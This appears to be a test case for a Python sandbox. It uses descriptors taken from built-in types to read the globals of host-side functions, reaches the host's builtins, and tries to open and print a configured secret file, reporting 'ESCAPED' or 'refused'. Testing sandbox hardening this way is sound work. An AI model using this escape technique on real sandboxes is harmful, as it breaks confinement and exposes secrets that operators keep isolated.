# expect: done
# idea: pull the __dict__ and __globals__ descriptors out of types and apply them to functions of the host side
def tick(ctx):
    function = type(lambda: None)
    reader = function.__dict__["__globals__"].__get__
    code = function.__dict__["__code__"].__get__
    table = type.__dict__["__dict__"].__get__
    spaces = []
    for value in table(type(ctx.log)).values():
        if isinstance(value, function):
            spaces.append(reader(value))
            print(code(value).co_filename.rpartition("/")[2], code(value).co_name)
    host = spaces[0]["__builtins__"]
    take = host.get if isinstance(host, dict) else host.__dict__.get
    try:
        print("ESCAPED: read", take("open")(ctx.config["secret_file"]).readlines())
    except Exception as error:
        print("refused:", error)
